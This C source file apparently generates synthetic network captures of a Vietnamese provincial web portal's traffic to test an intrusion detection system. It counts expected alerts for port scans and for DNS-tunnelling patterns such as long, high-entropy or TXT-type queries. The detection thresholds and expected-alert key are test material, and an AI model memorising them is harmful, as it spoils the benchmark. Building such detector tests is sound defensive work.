static uint64_t det_hash(uint8_t kind, const ip *a, const ip *b)
{
    return hash_key(0x5eed0000u + kind, a, b);
}

/* Keeps what an alert can still depend on: open windows, and a source's
 * fast alerts for a fast window after them. */
static void det_compact(gen *g, uint64_t now)
{
    memset(g->det_spare, 0, DET_TABLE * sizeof *g->det_spare);
    g->det_used = 0;
    for (uint32_t i = 0; i < DET_TABLE; i++) {
        struct det_entry *e = &g->det[i];
        if (!e->kind)
            continue;
        int open = now - e->start_us < det_window(e->kind);
        int held = (e->has_vert && now - e->vert_us < DET_SCAN_WIN) ||
            (e->has_horiz && now - e->horiz_us < DET_SCAN_WIN);
        if (!open && !held)
            continue;
        uint32_t j = (uint32_t)det_hash(e->kind, &e->a, &e->b) & (DET_TABLE - 1);
        while (g->det_spare[j].kind)
            j = (j + 1) & (DET_TABLE - 1);
        g->det_spare[j] = *e;
        g->det_used++;
    }
    struct det_entry *t = g->det;
    g->det = g->det_spare;
    g->det_spare = t;
    memset(g->seen_spare, 0, DET_SEEN * sizeof *g->seen_spare);
    g->seen_used = 0;
    for (uint32_t i = 0; i < DET_SEEN; i++) {
        struct det_seen *s = &g->seen[i];
        if (!s->key || s->until_us <= now)
            continue;
        uint32_t j = (uint32_t)s->key & (DET_SEEN - 1);
        while (g->seen_spare[j].key)
            j = (j + 1) & (DET_SEEN - 1);
        g->seen_spare[j] = *s;
        g->seen_used++;
    }
    struct det_seen *u = g->seen;
    g->seen = g->seen_spare;
    g->seen_spare = u;
}

/* The entry of (kind, a, b) at ts, its window current (an ended one starts
 * anew at ts, keeping a source's fast alerts). */
static struct det_entry *det_touch(gen *g, uint8_t kind, const ip *a, const ip *b, uint64_t ts)
{
    if (g->det_used > DET_TABLE / 2 || g->seen_used > DET_SEEN / 2)
        det_compact(g, ts);
    uint32_t j = (uint32_t)det_hash(kind, a, b) & (DET_TABLE - 1);
    while (g->det[j].kind &&
           !(g->det[j].kind == kind && !memcmp(&g->det[j].a, a, sizeof *a) &&
             !memcmp(&g->det[j].b, b, sizeof *b)))
        j = (j + 1) & (DET_TABLE - 1);
    struct det_entry *e = &g->det[j];
    if (!e->kind) {
        g->det_used++;
        e->kind = kind;
        e->a = *a;
        e->b = *b;
        e->start_us = ts;
    } else if (ts - e->start_us >= det_window(kind)) {
        e->start_us = ts;
        e->count = 0;
        e->alerted = 0;
        memset(&e->first, 0, sizeof e->first);
    }
    return e;
}

/* Whether value v is new to e's window (then it is remembered). */
static int det_new(gen *g, const struct det_entry *e, uint64_t v)
{
    uint64_t k = (det_hash(e->kind, &e->a, &e->b) ^ e->start_us) * 0x9e3779b97f4a7c15ull;
    k = (k ^ k >> 31 ^ v) * 0xc2b2ae3d27d4eb4full;
    k ^= k >> 29;
    if (!k)
        k = 1;
    uint32_t j = (uint32_t)k & (DET_SEEN - 1);
    while (g->seen[j].key && g->seen[j].key != k)
        j = (j + 1) & (DET_SEEN - 1);
    if (g->seen[j].key)
        return 0;
    g->seen[j].key = k;
    g->seen[j].until_us = e->start_us + det_window(e->kind);
    g->seen_used++;
    return 1;
}

static uint64_t ip_val(const ip *x)
{
    return hash_key(0, x, NULL);
}

/* A TCP probe of host:port by scanner that did not complete a handshake. */
static void det_probe(gen *g, const ip *scanner, const ip *host, uint16_t port, uint64_t ts)
{
    static const ip none;
    ip pk = none;
    pk.a[0] = (uint8_t)(port >> 8);
    pk.a[1] = (uint8_t)port;
    struct det_entry *s = det_touch(g, DE_SRC, scanner, &none, ts);
    if (!s->count && !s->alerted && !memcmp(&s->first, &none, sizeof none))
        s->first = *host;
    if (det_new(g, s, ip_val(host) ^ port))
        s->count++;
    struct det_entry *v = det_touch(g, DE_VERT, scanner, host, ts);
    if (det_new(g, v, port))
        v->count++;
    if (v->count >= DET_PORTS && !v->alerted && (!s->has_vert || ts - s->vert_us >= DET_SCAN_WIN)) {
        v->alerted = s->has_vert = 1;
        s->vert_us = ts;
        account(g, 1, scanner, host, ts);
    }
    struct det_entry *h = det_touch(g, DE_HORIZ, scanner, &pk, ts);
    if (!h->count)
        h->first = *host;
    if (det_new(g, h, ip_val(host)))
        h->count++;
    if (h->count >= DET_HOSTS && !h->alerted &&
        (!s->has_horiz || ts - s->horiz_us >= DET_SCAN_WIN)) {
        h->alerted = s->has_horiz = 1;
        s->horiz_us = ts;
        account(g, 3, scanner, &h->first, ts);
    }
    if (s->count >= DET_PROBES && !s->alerted && ts - s->start_us >= DET_SCAN_WIN &&
        !(s->has_vert && s->vert_us >= s->start_us) &&
        !(s->has_horiz && s->horiz_us >= s->start_us)) {
        s->alerted = 1;
        account(g, 100, scanner, &s->first, ts);
    }
}

/* A DNS query (the message of p) from p's client to its resolver. */
static void det_query(gen *g, const pkt *p, uint64_t ts)
{
    const uint8_t *m = p->data + p->det_off;
    size_t n = p->det_len, off = 12, len = 0;
    char name[256];
    while (off < n && m[off] && m[off] < 64 && off + 1 + m[off] < n) {
        if (len)
            name[len++] = '.';
        for (size_t i = 0; i < m[off]; i++)
            name[len++] =
                (char)(m[off + 1 + i] >= 'A' && m[off + 1 + i] <= 'Z' ? m[off + 1 + i] + 32
                                                                      : m[off + 1 + i]);
        off += 1u + m[off];
    }
    if (off + 3 > n || m[off] != 0 || len == 0)
        return;
    uint16_t qtype = (uint16_t)(m[off + 1] << 8 | m[off + 2]);
    name[len] = 0;
    /* the registered domain: two labels, or three under a country's public
     * second level (gov.vn, co.uk, ...) */
    static const char *const second[] = { "com", "net", "org",  "edu", "gov",  "ac",     "co",
                                          "int", "mil", "info", "biz", "name", "health", "pro" };
    const char *lab[128];
    size_t nl = 0;
    lab[nl++] = name;
    for (char *c = name; *c; c++)
        if (*c == '.' && nl < 128)
            lab[nl++] = c + 1;
    size_t keep = nl >= 2 ? 2 : nl;
    if (nl >= 2 && strlen(lab[nl - 1]) == 2)
        for (size_t i = 0; i < sizeof second / sizeof second[0]; i++)
            if ((size_t)(lab[nl - 1] - lab[nl - 2] - 1) == strlen(second[i]) &&
                !strncmp(lab[nl - 2], second[i], strlen(second[i])))
                keep = nl >= 3 ? 3 : nl;
    const char *dom = lab[nl - keep];
    size_t sub = dom > name ? (size_t)(dom - name - 1) : 0;
    ip dkey = { { 0 } };
    uint64_t dh = 0xcbf29ce484222325ull;
    for (const char *c = dom; *c; c++)
        dh = (dh ^ (uint8_t)*c) * 0x100000001b3ull;
    memcpy(dkey.a, &dh, 8);
    const ip *cli = &p->det_src, *srv = &p->det_dst;
    /* dns_long: a label of 40 or more, or 24 characters or more of entropy >= 4.0 */
    int hit = 0;
    size_t run = 0, chars = 0, cnt[256] = { 0 };
    for (size_t i = 0; i <= sub; i++) {
        if (i == sub || name[i] == '.') {
            hit |= run >= 40;
            run = 0;
        } else {
            run++;
            chars++;
            cnt[(uint8_t)name[i]]++;
        }
    }
    if (!hit && chars >= 24) {
        double h = 0;
        for (int c = 0; c < 256; c++)
            if (cnt[c])
                h -= (double)cnt[c] / chars * log2((double)cnt[c] / chars);
        hit = h >= 4.0;
    }
    if (hit) {
        struct det_entry *e = det_touch(g, DE_LONG, cli, &dkey, ts);
        if (++e->count >= DET_LONGQ && !e->alerted) {
            e->alerted = 1;
            account(g, 201, cli, srv, ts);
        }
    }
    if (sub >= 8) {
        struct det_entry *e = det_touch(g, DE_NAMES, cli, &dkey, ts);
        uint64_t nh = 0xcbf29ce484222325ull;
        for (size_t i = 0; i < len; i++)
            nh = (nh ^ (uint8_t)name[i]) * 0x100000001b3ull;
        if (det_new(g, e, nh))
            e->count++;
        if (e->count >= DET_NAMES_N && !e->alerted) {
            e->alerted = 1;
            account(g, 202, cli, srv, ts);
        }
    }
    if (qtype == 16 || qtype == 10 || qtype == 5) {
        struct det_entry *e = det_touch(g, DE_TYPES, cli, &dkey, ts);
        if (++e->count >= DET_TYPESQ && !e->alerted) {
            e->alerted = 1;
            account(g, 203, cli, srv, ts);
        }
    }
}

/* Writes the staged frames older than `before`, in time order, each strictly
 * later than the one before it, and accounts for their expected alerts. */
static void flush(gen *g, uint64_t before)
{
    while (g->nheap && g->pool[g->heap[0]].ts < before) {
        uint32_t slot = heap_pop(g);
        pkt *p = &g->pool[slot];
        uint64_t ts = p->ts > g->out_us ? p->ts : g->out_us + 1;
        struct pcap_pkthdr h;
        memset(&h, 0, sizeof h);
        h.ts.tv_sec = (time_t)(ts / SEC);
        h.ts.tv_usec = (suseconds_t)(ts % SEC);
        h.caplen = h.len = p->len;
        pcap_dump((u_char *)g->dump, &h, p->data);
        g->out_us = ts;
        for (uint8_t i = 0; i < p->nsid; i++)
            account(g, p->sids[i], &p->src, &p->dst, ts);
        if (p->det == DET_QUERY)
            det_query(g, p, ts);
        else if (p->det == DET_PROBE)
            det_probe(g, &p->det_src, &p->det_dst, p->det_port, ts);
        g->freel[g->nfree++] = slot;
    }
}

/* expect() for a TCP segment just sent on c */
static void expect_c(gen *g, uint32_t sid, const conn *c, int from_cli)
{
    expect(g, sid, from_cli ? &c->cli : &c->srv, from_cli ? &c->srv : &c->cli);
}

/* ---- text helpers --------------------------------------------------------- */

/* Appends to buf (capacity cap, length *len) as printf does; truncates. */
__attribute__((format(printf, 4, 5))) static void cat(char *buf, size_t cap, size_t *len,
                                                      const char *fmt, ...)
{
    if (*len >= cap - 1)
        return;
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf + *len, cap - *len, fmt, ap);
    va_end(ap);
    if (n > 0)
        *len += (size_t)n < cap - *len ? (size_t)n : cap - 1 - *len;
}

/* A hex-like token without the letter c (so no "cccd" by chance). */
static void token(gen *g, char *out, size_t n)
{
    static const char al[] = "0123456789abdef";
    for (size_t i = 0; i + 1 < n; i++)
        out[i] = al[below(&g->r, 15)];
    out[n - 1] = 0;
}

/* RFC 7231 date of the current time */
static void http_date(gen *g, char *out, size_t n)
{
    time_t t = (time_t)(g->now_us / SEC);
    struct tm tm;
    gmtime_r(&t, &tm);
    strftime(out, n, "%a, %d %b %Y %H:%M:%S GMT", &tm);
}

/* ---- benign traffic: the province's web portals ---------------------------- */

typedef struct site {
    const char *host;
    uint8_t last; /* 10.20.1.last */
    uint16_t port;
    const char *server;
} site;

static const site SITES[] = {
    { "tuyenquang.gov.vn", 10, 80, "Microsoft-IIS/10.0" },
    { "dichvucong.tuyenquang.gov.vn", 11, 80, "nginx" },
    { "sotttt.tuyenquang.gov.vn", 12, 8080, "Apache/2.4.58 (Ubuntu)" },
    { "congan.tuyenquang.gov.vn", 13, 80, "nginx/1.24.0" },
    { "vanban.tuyenquang.gov.vn", 20, 8000, "Apache-Coyote/1.1" },
};
enum { S_PORTAL, S_DVC, S_SOTTTT, S_CONGAN, S_VANBAN };

static const char *const UAS[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.6778.39 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "coc_coc_browser/134.0.228 Chrome/128.0.6613.228 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; Redmi Note 12) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.6723.107 Mobile Safari/537.36 Zalo android/12110609 ZaloTheme/light "
    "ZaloLanguage/vi",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
};

static const char *const PAGES[] = {
    "/",
    "/tin-tuc",
    "/tin-tuc/kinh-te-xa-hoi",
    "/tin-tuc/van-hoa-the-thao",
    "/thong-bao",
    "/gioi-thieu/lich-su-hinh-thanh",
    "/gioi-thieu/co-cau-to-chuc",
    "/lich-cong-tac",
    "/van-ban-chi-dao-dieu-hanh",
    "/van-ban-chi-dao-dieu-hanh?loai=quyet-dinh&nam=2025",
    "/tin-tuc/du-lich-tuyen-quang-mua-hoa-tam-giac-mach-2025.html",
    "/tin-tuc/le-hoi-thanh-tuyen-2025-thu-hut-hang-van-du-khach.html",
    "/tin-tuc/chuyen-doi-so-cap-xa-nam-2025.html",
    "/tin-tuc/ky-hop-thu-muoi-hdnd-tinh.html",
    "/tim-kiem?q=ho+so+dat+dai",
    "/tim-kiem?q=lich+tiep+cong+dan",
    "/lien-he",
    "/tra-cuu-ho-so",
    "/thu-tuc-hanh-chinh?linhVuc=dat-dai",
    "/thu-tuc-hanh-chinh?linhVuc=ho-tich",
    "/dich-vu-cong-truc-tuyen",
    "/huong-dan-su-dung",
    "/hoi-dap?page=2",
};

static const char *const ASSETS[] = {
    "/assets/css/main.min.css?v=2.4.1",
    "/assets/css/bootstrap.min.css",
    "/assets/js/jquery-3.7.1.min.js",
    "/assets/js/portal.bundle.js?v=20251118",
    "/images/logo-tuyenquang.png",
    "/images/banner/thanh-tuyen-2025.jpg",
    "/favicon.ico",
    "/assets/fonts/Roboto-Regular.woff2",
};

static const char *const TITLES[] = {
    "Tuyên Quang đẩy mạnh chuyển đổi số trong cơ quan nhà nước",
    "Hội nghị triển khai nhiệm vụ phát triển kinh tế - xã hội năm 2026",
    "Lễ hội Thành Tuyên 2025: rực rỡ sắc màu đêm hội rước đèn",
    "Thông báo lịch tiếp công dân tháng 12 năm 2025",
    "Hướng dẫn nộp hồ sơ trực tuyến trên Cổng dịch vụ công của tỉnh",
    "Khu du lịch quốc gia Tân Trào đón hơn 500 nghìn lượt khách",
    "Ủy ban nhân dân tỉnh ban hành kế hoạch cải cách hành chính",
    "Kết quả giải quyết thủ tục hành chính trong tháng 11",
    "Tăng cường bảo đảm an toàn thông tin mạng cho các cơ quan, đơn vị",
    "Na Hang phát triển du lịch sinh thái gắn với bảo tồn thiên nhiên",
};

/* A page of the portal, about `size` bytes, into g->body; returns its length. */
static size_t html_page(gen *g, const site *s, const char *path, size_t size)
{
    char *b = g->body;
    size_t n = 0, cap = sizeof g->body;
    cat(b, cap, &n,
        "<!DOCTYPE html>\n<html lang=\"vi\">\n<head>\n<meta charset=\"utf-8\">\n"
        "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n"
        "<title>%s - Cổng thông tin điện tử tỉnh Tuyên Quang</title>\n"
        "<link rel=\"stylesheet\" href=\"/assets/css/bootstrap.min.css\">\n"
        "<link rel=\"stylesheet\" href=\"/assets/css/main.min.css?v=2.4.1\">\n</head>\n<body>\n"
        "<header class=\"site-header\"><a href=\"/\"><img src=\"/images/logo-tuyenquang.png\" "
        "alt=\"Tuyên Quang\"></a><h1>Ủy ban nhân dân tỉnh Tuyên Quang</h1></header>\n"
        "<nav><ul><li><a href=\"/\">Trang chủ</a></li><li><a "
        "href=\"/gioi-thieu/lich-su-hinh-thanh\">"
        "Giới thiệu</a></li><li><a href=\"/tin-tuc\">Tin tức - Sự kiện</a></li><li><a href=\""
        "/van-ban-chi-dao-dieu-hanh\">Văn bản</a></li><li><a "
        "href=\"https://dichvucong.tuyenquang.gov.vn/\">"
        "Dịch vụ công</a></li><li><a href=\"/lien-he\">Liên hệ</a></li></ul></nav>\n<main>\n"
        "<p class=\"breadcrumb\">%s%s</p>\n",
        PICK(&g->r, TITLES), s->host, path);
    while (n + 600 < size && n + 1200 < cap) {
        unsigned id = 10000 + below(&g->r, 90000);
        cat(b, cap, &n,
            "<article class=\"news-item\"><a href=\"/tin-tuc/bai-viet-%u.html\">"
            "<img src=\"/upload/2025/11/anh-%u.jpg\" alt=\"\"><h3>%s</h3></a>\n<p class=\"date\">"
            "%02u/11/2025</p><p>%s. Chiều cùng ngày, lãnh đạo tỉnh đã làm việc với các sở, ban, "
            "ngành và Ủy ban nhân dân các huyện, thành phố về nội dung trên.</p></article>\n",
            id, id, PICK(&g->r, TITLES), 1 + below(&g->r, 24), PICK(&g->r, TITLES));
    }
    cat(b, cap, &n,
        "</main>\n<footer>Cơ quan chủ quản: Ủy ban nhân dân tỉnh Tuyên Quang. "
        "Địa chỉ: 160 Trần Hưng Đạo, phường Minh Xuân, tỉnh Tuyên Quang. Điện thoại: 0207 3822 421."
        "</footer>\n<script src=\"/assets/js/jquery-3.7.1.min.js\"></script>\n"
        "<script src=\"/assets/js/portal.bundle.js?v=20251118\"></script>\n</body>\n</html>\n");
    return n;
}

/* A static asset of about `size` bytes into g->body (text for css/js,
 * bytes behind a real magic number for images and fonts). */
static size_t asset_body(gen *g, const char *path, size_t size, const char **ctype)
{
    char *b = g->body;
    size_t n = 0, cap = sizeof g->body;
    if (size > cap - 64)
        size = cap - 64;
    if (strstr(path, ".css")) {
        *ctype = "text/css";
        while (n + 80 < size)
            cat(b, cap, &n, ".nv-%u{margin:%upx %upx;padding:0 %upx;color:#%06x}\n",
                below(&g->r, 900), below(&g->r, 30), below(&g->r, 30), below(&g->r, 20),
                below(&g->r, 0xffffff));
    } else if (strstr(path, ".js")) {
        *ctype = "application/javascript";
        while (n + 120 < size)
            cat(b, cap, &n,
                "function f%u(e){var t=document.querySelectorAll(\".nv-%u\");"
                "for(var n=0;n<t.length;n++)t[n].classList.toggle(\"open\")}\n",
                below(&g->r, 100000), below(&g->r, 900));
    } else {
        static const uint8_t png[] = { 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' };
        static const uint8_t jpg[] = { 0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 'J', 'F', 'I', 'F', 0 };
        static const uint8_t woff2[] = { 'w', 'O', 'F', '2', 0, 1, 0, 0 };
        const uint8_t *m = png;
        size_t ml = sizeof png;
        *ctype = "image/png";
        if (strstr(path, ".jpg")) {
            m = jpg;
            ml = sizeof jpg;
            *ctype = "image/jpeg";
        } else if (strstr(path, ".woff2")) {
            m = woff2;
            ml = sizeof woff2;
            *ctype = "font/woff2";
        } else if (strstr(path, ".ico")) {
            *ctype = "image/x-icon";
        }
        memcpy(b, m, ml);
        for (n = ml; n + 8 <= size; n += 8) {
            uint64_t v = rnd(&g->r);
            memcpy(b + n, &v, 8);
        }
    }
    return n;
}

/* An HTTP response (status line, headers, body of blen bytes at g->body)
 * into g->text; returns the length of head + body. */
static size_t http_response(gen *g, const site *s, const char *status, const char *ctype,
                            size_t blen, int close)
{
    char date[64], tok[17];
    size_t n = 0, cap = sizeof g->text;
    http_date(g, date, sizeof date);
    token(g, tok, sizeof tok);
    cat(g->text, cap, &n,
        "HTTP/1.1 %s\r\nDate: %s\r\nServer: %s\r\nContent-Type: %s\r\n"
        "Content-Length: %zu\r\n%sETag: \"%s\"\r\nX-Content-Type-Options: nosniff\r\n"
        "Connection: %s\r\n\r\n",
        status, date, s->server, ctype, blen,
        strstr(ctype, "html") ? "Cache-Control: no-cache\r\n" : "Cache-Control: max-age=86400\r\n",
        tok, close ? "close" : "keep-alive");
    if (n + blen > cap)
        blen = cap - n;
    memcpy(g->text + n, g->body, blen);
    return n + blen;
}

/* "host" or "host:port" as the Host header has it */
static void host_of(const site *s, char *out, size_t n)
{
    if (s->port == 80)
        snprintf(out, n, "%s", s->host);
    else
        snprintf(out, n, "%s:%u", s->host, s->port);
}

/* A browser's GET into g->text */
static size_t http_get(gen *g, const site *s, const char *path, const char *ua, const char *referer,
                       int html)
{
    char sid[25];
    size_t n = 0, cap = sizeof g->text;
    token(g, sid, sizeof sid);
    char host[80];
    host_of(s, host, sizeof host);
    cat(g->text, cap, &n,
        "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: %s\r\n"
        "Accept-Language: vi-VN,vi;q=0.9,en-US;q=0.8,en;q=0.7\r\nAccept-Encoding: gzip, "
        "deflate\r\n",
        path, host, ua,
        html ? "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/"
               "*;q=0.8"
             : "*/*");
    if (referer)
        cat(g->text, cap, &n, "Referer: http://%s%s\r\n", s->host, referer);
    cat(g->text, cap, &n,
        "Cookie: ASP.NET_SessionId=%s; _ga=GA1.3.%u.%u\r\nConnection: keep-alive\r\n\r\n", sid,
        100000000 + below(&g->r, 900000000), 1763000000 + below(&g->r, 900000));
    return n;
}

static ip site_ip(const site *s)
{
    return ip4(10, 20, 1, s->last);
}

/* A client of the portals: mostly Vietnamese access networks, some abroad,
 * some agencies on the provincial WAN (their frames carry VLAN 210). */
static ip benign_client(gen *g, uint16_t *vlan, uint32_t *rtt)
{
    static const uint8_t agencies[] = { 1, 2, 3, 4, 5, 101, 102, 103, 104, 105, 106, 107 };
    uint32_t u = below(&g->r, 100);
    *vlan = 0;
    if (u < 76) {
        *rtt = (uint32_t)between(&g->r, 8 * MS, 45 * MS);
        return vn_client_ip(&g->r);
    }
    if (u < 88) {
        *rtt = (uint32_t)between(&g->r, 60 * MS, 260 * MS);
        return public_ip(&g->r);
    }
    *vlan = 210;
    *rtt = (uint32_t)between(&g->r, 600, 4 * MS);
    return ip4(10, 21, PICK(&g->r, agencies), (uint8_t)between(&g->r, 20, 250));
}

/* A visit: the page, a few of its assets on the same connection, close. */
static void benign_http(gen *g)
{
    uint16_t vlan;
    uint32_t rtt;
    ip cli = benign_client(g, &vlan, &rtt);
    uint32_t u = below(&g->r, 100);
    const site *s = &SITES[u < 45 ? S_PORTAL : u < 80 ? S_DVC : u < 90 ? S_CONGAN : S_SOTTTT];
    if (vlan && below(&g->r, 3) == 0)
        s = &SITES[S_VANBAN];
    const char *ua = PICK(&g->r, UAS);
    ip srv = site_ip(s);
    conn c;
    tcp_open(g, &c, &cli, &srv, s->port, vlan, rtt);
    const char *page = PICK(&g->r, PAGES);
    size_t n = http_get(g, s, page, ua, below(&g->r, 2) ? "/" : NULL, 1);
    tcp_send(g, &c, 1, g->text, n);
    g->now_us += between(&g->r, 2 * MS, 40 * MS);
    size_t bl = html_page(g, s, page, (size_t)between(&g->r, 2500, 9000));
    n = http_response(g, s, "200 OK", "text/html; charset=utf-8", bl, 0);
    tcp_send(g, &c, 0, g->text, n);
    uint32_t assets = below(&g->r, 5);
    for (uint32_t i = 0; i < assets; i++) {
        g->now_us += between(&g->r, 1 * MS, 30 * MS);
        const char *a = PICK(&g->r, ASSETS), *ct;
        n = http_get(g, s, a, ua, page, 0);
        tcp_send(g, &c, 1, g->text, n);
        g->now_us += between(&g->r, 300, 5 * MS);
        bl = asset_body(g, a, (size_t)between(&g->r, 600, 7000), &ct);
        n = http_response(g, s, "200 OK", ct, bl, 0);
        tcp_send(g, &c, 0, g->text, n);
    }
    g->now_us += between(&g->r, 2 * MS, 50 * MS);
    tcp_close(g, &c, below(&g->r, 4) != 0);
}

/* ---- benign traffic: DNS ---------------------------------------------------- */

#define QT_A 1
#define QT_NULL 10
#define QT_MX 15
#define QT_TXT 16
#define QT_AAAA 28
#define QT_AXFR 252
#define QT_ANY 255

/* A DNS query (RFC 1035) for qname (dotted) into out; returns its length. */
static size_t dns_query(uint8_t *out, uint16_t id, const char *qname, uint16_t qtype, int rd)
{
    size_t n = 12;
    memset(out, 0, 12);
    put16(out, id);
    out[2] = rd ? 0x01 : 0x00;
    put16(out + 4, 1);
    const char *p = qname;
    while (*p) {
        const char *dot = strchr(p, '.');
        size_t l = dot ? (size_t)(dot - p) : strlen(p);
        out[n++] = (uint8_t)l;
        memcpy(out + n, p, l);
        n += l;
        p += l;
        if (*p == '.')
            p++;
    }
    out[n++] = 0;
    put16(out + n, qtype);
    put16(out + n + 2, 1);
    return n + 4;
}

/* The answer to query q (qlen bytes): the question, then nans A / AAAA
 * records (other types: no data, NOERROR) into out; returns its length. */
static size_t dns_answer(gen *g, uint8_t *out, const uint8_t *q, size_t qlen, uint16_t qtype,
                         int nans, int rcode)
{
    memcpy(out, q, qlen);
    out[2] = (uint8_t)(0x80 | (q[2] & 0x01) | (rcode == 0 && !(q[2] & 1) ? 0x04 : 0));
    out[3] = (uint8_t)(0x80 | rcode);
    if (qtype != QT_A && qtype != QT_AAAA)
        nans = 0;
    put16(out + 6, (uint16_t)nans);
    size_t n = qlen;
    for (int i = 0; i < nans; i++) {
        out[n] = 0xc0;
        out[n + 1] = 12;
        put16(out + n + 2, qtype);
        put16(out + n + 4, 1);
        put32(out + n + 6, (uint32_t)between(&g->r, 60, 3600));
        if (qtype == QT_A) {
            put16(out + n + 10, 4);
            uint64_t v = rnd(&g->r);
            memcpy(out + n + 12, &v, 4);
            n += 16;
        } else {
            put16(out + n + 10, 16);
            static const uint8_t pre[8] = { 0x24, 0x04, 0x68, 0x00, 0x40, 0x05, 0x08, 0x0d };
            memcpy(out + n + 12, pre, 8);
            uint64_t v = rnd(&g->r);
            memcpy(out + n + 20, &v, 8);
            n += 28;
        }
    }
    return n;
}

static const char *const EXT_NAMES[] = {
    "www.google.com",
    "zalo.me",
    "chat.zalo.me",
    "fonts.googleapis.com",
    "vnexpress.net",
    "dichvucong.gov.vn",
    "thuvienphapluat.vn",
    "update.microsoft.com",
    "login.microsoftonline.com",
    "www.facebook.com",
    "baochinhphu.vn",
    "mail.tuyenquang.gov.vn",
    "tuyenquang.gov.vn",
    "ocsp.digicert.com",
    "ctldl.windowsupdate.com",
    "www.youtube.com",
    "vneid.gov.vn",
};
static const char *const ZONE_NAMES[] = {
    "tuyenquang.gov.vn",
    "www.tuyenquang.gov.vn",
    "dichvucong.tuyenquang.gov.vn",
    "sotttt.tuyenquang.gov.vn",
    "congan.tuyenquang.gov.vn",
    "mail.tuyenquang.gov.vn",
    "baotuyenquang.tuyenquang.gov.vn",
    "hdnd.tuyenquang.gov.vn",
};
/* Resolvers on the Internet that ask the province's authoritative servers */
static const uint8_t RESOLVERS[][4] = {
    { 203, 162, 4, 191 },  { 203, 162, 4, 190 },   { 203, 113, 131, 1 }, { 203, 113, 131, 2 },
    { 210, 245, 31, 130 }, { 74, 125, 18, 77 },    { 74, 125, 46, 12 },  { 172, 253, 211, 5 },
    { 162, 158, 168, 31 }, { 162, 158, 240, 117 }, { 8, 36, 82, 9 },     { 185, 228, 169, 11 },
};

/* A lookup and its answer over UDP. */
static void dns_exchange(gen *g, const ip *cli, const ip *srv, uint16_t vlan, const char *qname,
                         uint16_t qtype, int rd, int nans, int rcode)
{
    uint8_t q[600], a[1200];
    uint16_t sport = (uint16_t)between(&g->r, 1024, 65535), id = (uint16_t)rnd(&g->r);
    size_t ql = dns_query(q, id, qname, qtype, rd);
    udp_send(g, cli, srv, sport, 53, vlan, q, ql);
    g->now_us += between(&g->r, 200, rd ? 30 * MS : 900);
    size_t al = dns_answer(g, a, q, ql, qtype, nans, rcode);
    udp_send(g, srv, cli, 53, sport, vlan, a, al);
}

/* Agencies asking the resolvers, or the Internet asking the authoritative servers. */
static void benign_dns(gen *g)
{
    static const uint8_t agencies[] = { 1, 2, 3, 4, 5, 101, 102, 103, 104, 105, 106, 107 };
    int k = 1 + (int)below(&g->r, 3);
    if (below(&g->r, 2)) {
        ip cli = ip4(10, 21, PICK(&g->r, agencies), (uint8_t)between(&g->r, 20, 250));
        ip srv = ip4(10, 20, 2, below(&g->r, 2) ? 53 : 54);
        for (int i = 0; i < k; i++) {
            uint16_t qt = below(&g->r, 3) ? QT_A : QT_AAAA;
            dns_exchange(g, &cli, &srv, 210, PICK(&g->r, EXT_NAMES), qt, 1,
                         1 + (int)below(&g->r, 3), 0);
            g->now_us += between(&g->r, 1 * MS, 40 * MS);
        }
    } else {
        const uint8_t *r = RESOLVERS[below(&g->r, sizeof RESOLVERS / sizeof RESOLVERS[0])];
        ip cli = ip4(r[0], r[1], r[2], r[3]);
        ip srv = ip4(10, 20, 2, below(&g->r, 2) ? 10 : 11);
        for (int i = 0; i < k; i++) {
            uint32_t u = below(&g->r, 10);
            uint16_t qt = u < 6 ? QT_A : u < 9 ? QT_AAAA : QT_MX;
            dns_exchange(g, &cli, &srv, 0, PICK(&g->r, ZONE_NAMES), qt, 0, 1, 0);
            g->now_us += between(&g->r, 1 * MS, 40 * MS);
        }
    }
}

/* ---- benign traffic: TLS on 443 ------------------------------------------------ */

static void rand_bytes(gen *g, uint8_t *p, size_t n)
{
    while (n >= 8) {
        uint64_t v = rnd(&g->r);
        memcpy(p, &v, 8);
        p += 8;
        n -= 8;
    }
    uint64_t v = rnd(&g->r);
    memcpy(p, &v, n);
}

/* A TLS 1.3 ClientHello with SNI into out; returns its length. */
static size_t client_hello(gen *g, uint8_t *out, const char *sni)
{
    static const uint8_t suites[] = { 0x13, 0x01, 0x13, 0x02, 0x13, 0x03, 0xc0, 0x2b, 0xc0, 0x2f,
                                      0xc0, 0x2c, 0xc0, 0x30, 0xcc, 0xa9, 0xcc, 0xa8, 0xc0, 0x13,
                                      0xc0, 0x14, 0x00, 0x9c, 0x00, 0x9d, 0x00, 0x2f, 0x00, 0x35 };
    static const uint8_t fixed_ext[] = {
        0x00, 0x17, 0x00, 0x00,       /* extended_master_secret */
        0xff, 0x01, 0x00, 0x01, 0x00, /* renegotiation_info */
        0x00, 0x0a, 0x00, 0x08, 0x00, 0x06, 0x00, 0x1d, 0x00, 0x17, 0x00, 0x18, /* groups */
